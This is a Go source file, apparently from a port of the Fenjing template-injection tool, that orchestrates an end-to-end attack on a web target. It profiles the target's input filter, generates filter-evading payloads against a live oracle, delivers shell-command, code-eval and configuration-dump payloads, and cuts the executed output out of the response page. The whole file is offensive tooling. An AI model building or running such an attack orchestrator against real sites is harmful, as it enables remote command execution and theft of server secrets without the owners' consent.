// Package cracker orchestrates one end-to-end attack: profile the target,
// synthesize payloads against the live oracle, deliver them, and pull the
// interesting part out of the response.
package cracker

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"strings"

	"github.com/google/uuid"

	"github.com/fuucckk/Fenjing/pkg/defaults"
	"github.com/fuucckk/Fenjing/pkg/options"
	"github.com/fuucckk/Fenjing/pkg/payload"
	"github.com/fuucckk/Fenjing/pkg/profile"
	"github.com/fuucckk/Fenjing/pkg/report"
	"github.com/fuucckk/Fenjing/pkg/submit"
)

// ErrNoEcho means the working payload is blind: it executed, but the
// response carries no rendered output to extract.
var ErrNoEcho = errors.New("cracker: payload is blind, no output available")

// Cracker drives goals against one profiled delivery surface.
type Cracker struct {
	sub  submit.Submitter
	opts options.Options
	gen  *payload.FullGenerator
	prof *profile.Profile
	log  *slog.Logger

	// Response text surrounding reflected input, measured once with a
	// marker probe. Used to cut rendered output out of the page.
	outPrefix string
	outSuffix string
	hasBounds bool
}

// New profiles the target behind sub and prepares a generator bound to its
// live oracle. The logger may be nil.
func New(ctx context.Context, sub submit.Submitter, opts options.Options, log *slog.Logger) (*Cracker, error) {
	if log == nil {
		log = slog.Default()
	}

	profiler := profile.New(sub, opts, log)
	prof, err := profiler.Run(ctx)
	if err != nil {
		return nil, err
	}
	opts = prof.Apply(opts)

	c := &Cracker{
		sub:  sub,
		opts: opts,
		gen:  payload.NewFullGenerator(opts, nil, profiler.Oracle(ctx)),
		prof: prof,
		log:  log,
	}
	c.measureBounds(ctx)
	return c, nil
}

// NewOffline skips profiling and checks candidates against the options'
// keyword blocklist only. For generating payloads without a target.
func NewOffline(opts options.Options) *Cracker {
	return &Cracker{
		opts: opts,
		gen:  payload.NewFullGenerator(opts, nil, payload.StaticOracle(opts.Keywords)),
		log:  slog.Default(),
	}
}

// Profile returns the probe results, nil in offline mode.
func (c *Cracker) Profile() *profile.Profile { return c.prof }

// Options returns the effective options after profile merge.
func (c *Cracker) Options() options.Options { return c.opts }

// measureBounds locates where reflected input sits in the page so rendered
// output can be cut out later.
func (c *Cracker) measureBounds(ctx context.Context) {
	m := strings.ReplaceAll(uuid.NewString(), "-", "")[:defaults.MarkerLength]
	res, err := c.sub.Submit(ctx, m)
	if err != nil {
		return
	}
	idx := strings.Index(res.Text, m)
	if idx < 0 {
		return
	}
	c.outPrefix = res.Text[:idx]
	c.outSuffix = res.Text[idx+len(m):]
	c.hasBounds = true
}

// extract cuts the rendered output out of a response page. When the page
// shape changed since measurement the whole text is returned, trimmed.
func (c *Cracker) extract(text string) string {
	if c.hasBounds &&
		strings.HasPrefix(text, c.outPrefix) &&
		strings.HasSuffix(text, c.outSuffix) &&
		len(text) >= len(c.outPrefix)+len(c.outSuffix) {
		return text[len(c.outPrefix) : len(text)-len(c.outSuffix)]
	}
	return strings.TrimSpace(text)
}

// Execute synthesizes and delivers a shell-command payload.
func (c *Cracker) Execute(ctx context.Context, cmd string) (report.Finding, error) {
	p, err := c.gen.GenerateCommand(cmd)
	if err != nil {
		return report.Finding{}, err
	}
	return c.deliver(ctx, p, report.Finding{Kind: "command", Goal: cmd})
}

// Eval synthesizes and delivers an expression-evaluation payload.
func (c *Cracker) Eval(ctx context.Context, code string) (report.Finding, error) {
	p, err := c.gen.GenerateEval(code)
	if err != nil {
		return report.Finding{}, err
	}
	return c.deliver(ctx, p, report.Finding{Kind: "eval", Goal: code})
}

// ConfigDump synthesizes and delivers a configuration-dump payload.
func (c *Cracker) ConfigDump(ctx context.Context) (report.Finding, error) {
	p, err := c.gen.GenerateConfigDump()
	if err != nil {
		return report.Finding{}, err
	}
	return c.deliver(ctx, p, report.Finding{Kind: "config"})
}

// Payload synthesizes a payload for a goal without delivering it, for the
// offline workflow.
func (c *Cracker) Payload(cmd string) (report.Finding, error) {
	p, err := c.gen.GenerateCommand(cmd)
	if err != nil {
		return report.Finding{}, err
	}
	return report.Finding{
		Kind:        "command",
		Goal:        cmd,
		Payload:     p.Content,
		Pattern:     p.Pattern,
		WillEcho:    p.WillEcho,
		OracleCalls: p.OracleCalls,
	}, nil
}

func (c *Cracker) deliver(ctx context.Context, p payload.Payload, f report.Finding) (report.Finding, error) {
	f.Payload = p.Content
	f.Pattern = p.Pattern
	f.WillEcho = p.WillEcho
	f.OracleCalls = p.OracleCalls

	res, err := c.sub.Submit(ctx, p.Content)
	if err != nil {
		return f, fmt.Errorf("cracker: deliver payload: %w", err)
	}
	if !p.WillEcho {
		c.log.Info("blind payload delivered", "status", res.StatusCode)
		return f, nil
	}
	f.Output = c.extract(res.Text)
	return f, nil
}
